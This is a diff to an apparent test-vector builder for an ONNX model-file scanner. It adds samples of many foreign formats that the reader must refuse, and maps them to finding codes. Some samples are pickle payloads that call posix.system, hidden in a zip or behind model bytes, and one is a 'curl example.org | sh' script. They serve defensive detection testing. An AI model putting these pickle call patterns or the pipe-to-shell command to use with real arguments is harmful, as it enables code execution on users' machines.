@@ -2,14 +2,16 @@
 
     python tests/vectors/build_onnx.py
 
-``index.json`` says for each file which codes the reader must report, or with which error it must refuse. Every
-file has one fault; where two codes are listed, the second is a consequence of the first that cannot be
-avoided. Files that are in order are listed with no code.
+``index.json`` says for each file which codes the reader must report, or with which error it must refuse, and the
+``findings`` that a report must have. Every file has one fault; where two codes are listed, the second is a consequence
+of the first that cannot be avoided. Files that are in order are listed with no code.
 """
 
 from __future__ import annotations
 
+import io
 import json
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
@@ -42,6 +44,25 @@ def add(name: str, data: bytes | ModelProto, *codes: str, error: str = "") -> No
     assert name not in VECTORS, name
     content = data if isinstance(data, bytes) else data.SerializeToString(deterministic=True)
     VECTORS[name] = (content, list(codes), error)
+
+
+FINDINGS = {
+    "onnx.empty": "MLS323",
+    "onnx.magic.pickle": "MLS320",
+    "onnx.magic.ort": "MLS322",
+    "onnx.limit.depth": "MLS327",
+    "onnx.limit.type_depth": "MLS327",
+    **{
+        f"onnx.magic.{name}": "MLS321"
+        for name in ("zip", "gzip", "bzip2", "xz", "lzma", "zstd", "lz4", "zlib", "rar", "7z", "tar")
+    },
+}
+
+
+def finding_of(error: str) -> str:
+    """What a report must call a file that is refused with this error."""
+    family = {"magic": "MLS324", "wire": "MLS325", "limit": "MLS326"}.get(error.split(".")[1], "")
+    return FINDINGS.get(error) or family
 
 
 def info(name: str, shape: list[int | str | None] | None = None, element: int = FLOAT):
@@ -249,16 +270,92 @@ def ensemble(**changes) -> NodeProto:
 
 def other_formats() -> None:
     add("empty", b"", error="onnx.empty")
-    add("pickle", b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00.", error="onnx.magic.pickle")
+    call = b"\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
+    text_call = b"cposix\nsystem\n(S'true'\ntR."
+    add("pickle", b"\x80\x04" + call, error="onnx.magic.pickle")
+    add("pickle_without_header", call, error="onnx.magic.pickle")
+    add("pickle_protocol_0", text_call, error="onnx.magic.pickle")
+    add("pickle_protocol_0_object", b"(iposix\nsystem\np0\n.", error="onnx.magic.pickle")
+    add("pickle_protocol_0_data", b"(dp0\nVscale\np1\nF1.5\nsVweights\np2\n(lp3\nI1\naI2\nas.", error="onnx.magic.pickle")
+    add("pickle_protocol_1", b"}q\0(U\x05scaleq\1G" + bytes(8) + b"U\x01wq\2]q\3(K\1K\2eu.", error="onnx.magic.pickle")
+    add("pickle_with_more_behind", text_call + bytes(64), error="onnx.magic.pickle")
+    old = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."
+    add("pickle_of_old_pytorch", old + b"\x80\x02" + text_call, error="onnx.magic.pickle")
+    # Behind the model version and a list of metadata stands a pickle: None, PUT, then the call.
+    key = b"\x01" + text_call
+    both = b"(N" + field(14, field(1, key.ljust(40, b" ")))
+    add("pickle_and_model", both + model().SerializeToString(deterministic=True), error="onnx.magic.pickle")
     add("zip", b"PK\x03\x04" + bytes(26), error="onnx.magic.zip")
+    add("zip_empty", b"PK\x05\x06" + bytes(18), error="onnx.magic.zip")
+    add(
+        "zip_of_pytorch",
+        archive({"archive/data.pkl": b"\x80\x02" + text_call, "archive/version": b"3\n"}),
+        error="onnx.magic.zip",
+    )
+    torchscript = {"m/data.pkl": b"\x80\x02N.", "m/code/__torch__.py": b"", "m/constants.pkl": b"\x80\x02)."}
+    add("zip_of_torchscript", archive(torchscript), error="onnx.magic.zip")
+    add(
+        "zip_of_numpy",
+        archive({"w.npy": b"\x93NUMPY\1\0\x36\0{'descr': '<f4', 'fortran_order': False, 'shape': (0,)}\n"}),
+        error="onnx.magic.zip",
+    )
+    add("zip_of_keras", archive({"metadata.json": b'{"keras_version": "3.0.0"}', "config.json": b"{}"}), error="onnx.magic.zip")
+    add("zip_of_a_model", archive({"model.onnx": model().SerializeToString(deterministic=True)}), error="onnx.magic.zip")
     add("ort_flatbuffer", b"\x1c\x00\x00\x00ORTM" + bytes(24), error="onnx.magic.ort")
     add("tflite", b"\x1c\x00\x00\x00TFL3" + bytes(24), error="onnx.magic.tflite")
+    add("executorch", b"\x1c\x00\x00\x00ET12" + bytes(24), error="onnx.magic.executorch")
     add("hdf5", b"\x89HDF\r\n\x1a\n" + bytes(24), error="onnx.magic.hdf5")
     add("gzip", b"\x1f\x8b\x08\x00" + bytes(24), error="onnx.magic.gzip")
+    add("bzip2", b"BZh91AY&SY" + bytes(24), error="onnx.magic.bzip2")
+    add("bzip2_empty", b"BZh9\x17rE8P\x90" + bytes(4), error="onnx.magic.bzip2")
+    add("xz", b"\xfd7zXZ\0\0\x04" + bytes(24), error="onnx.magic.xz")
+    add("lzma", b"\x5d\0\0\x80\0" + b"\xff" * 8 + bytes(24), error="onnx.magic.lzma")
+    add("zstd", b"\x28\xb5\x2f\xfd\x20\x08" + bytes(24), error="onnx.magic.zstd")
+    add("lz4", b"\x04\x22\x4d\x18\x64\x40" + bytes(24), error="onnx.magic.lz4")
+    packed = bytes.fromhex(
+        "785e6b604e2ec82fceace02aae2c2e49cde5d208562f292a4d55e72a09d203008f64095a"
+    )  # a pickle; other builds of zlib would write it in another way
+    add("zlib", packed, error="onnx.magic.zlib")
+    add("rar", b"Rar!\x1a\x07\x01\x00" + bytes(24), error="onnx.magic.rar")
+    add("7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24), error="onnx.magic.7z")
     add("tar", b"model.onnx".ljust(257, b"\0") + b"ustar\x0000", error="onnx.magic.tar")
+    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
+    add("safetensors", len(header).to_bytes(8, "little") + header + bytes(8), error="onnx.magic.safetensors")
+    long_header = header.ljust(0x812)  # 12 08 as bytes: the tag of a name and its length, were it a model
+    add("safetensors_like_a_model", (0x812).to_bytes(8, "little") + long_header + bytes(8), error="onnx.magic.safetensors")
+    add("gguf", b"GGUF\x03\0\0\0" + bytes(16), error="onnx.magic.gguf")
+    add("numpy", b"\x93NUMPY\1\0\x36\0{'descr': '<f4', 'fortran_order': False, 'shape': (0,)}\n", error="onnx.magic.numpy")
+    description = field(1, field(1, b"x") + field(3, field(5, b""))) + field(100, field(1, b"a model" * 100))
+    add("core_ml", number(1, 5) + field(2, description) + field(500, field(1, b"")), error="onnx.magic.coreml")
+    updatable = number(1, 5) + field(2, b"") + number(10, 1) + field(3000, b"")
+    add("core_ml_updatable", updatable, error="onnx.magic.coreml")
+    add("tensorflow_saved_model", number(1, 1) + field(2, field(1, b"") + field(2, bytes(300))), error="onnx.magic.tensorflow")
+    add("tensorrt", b"ptrt" + bytes(28), error="onnx.magic.tensorrt")
+    add("java", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap", error="onnx.magic.java")
+    add("r_workspace", b"RDX3\nX\n" + bytes(12), error="onnx.magic.r")
+    add("executable", b"\x7fELF\x02\x01\x01" + bytes(57), error="onnx.magic.executable")
+    add("executable_of_windows", b"MZ".ljust(60, b"\0") + b"\x80\0\0\0" + bytes(64), error="onnx.magic.executable")
+    add("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", error="onnx.magic.pdf")
     add("git_lfs_pointer", b"version https://git-lfs.github.com/spec/v1\noid sha256:00\n", error="onnx.magic.git_lfs")
+    pmml = '<?xml version="1.0" encoding="{}"?>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"/>\n'
+    add("pmml", pmml.format("UTF-8").encode(), error="onnx.magic.xml")
+    add("pmml_utf_16", b"\xff\xfe" + pmml.format("UTF-16").encode("utf-16-le"), error="onnx.magic.xml")
     add("json", b'{"irVersion": "8"}', error="onnx.magic.text")
     add("textual_onnx", b"<\n  ir_version: 8\n>\n", error="onnx.magic.text")
+    add("script", b"#!/bin/sh\ncurl example.org | sh\n", error="onnx.magic.text")
+    add("text_not_english", "Über das Modell: 模型\n".encode() * 40, error="onnx.magic.text")
+    add("bytes_without_meaning", bytes(range(250, 127, -1)), error="onnx.wire.varint")
+
+
+def archive(members: dict[str, bytes]) -> bytes:
+    """A ZIP archive without compression and without the time."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as file:
+        for name, content in members.items():
+            member = zipfile.ZipInfo(name)
+            member.create_system = 3
+            file.writestr(member, content)
+    return out.getvalue()
 
 
 def wire() -> None:
@@ -582,7 +679,10 @@ def build() -> dict[str, bytes]:
     VECTORS.clear()
     for group in (good, other_formats, wire, top_level, nodes, functions, tensors, types, trees):
         group()
-    index = {name: {"codes": codes, "error": error} for name, (_, codes, error) in sorted(VECTORS.items())}
+    index = {
+        name: {"codes": codes, "error": error, "findings": [finding_of(error)] if error else codes}
+        for name, (_, codes, error) in sorted(VECTORS.items())
+    }
     files = {f"{name}.onnx": data for name, (data, _, _) in VECTORS.items()}
     files["index.json"] = (json.dumps(index, indent=1) + "\n").encode()
     return files
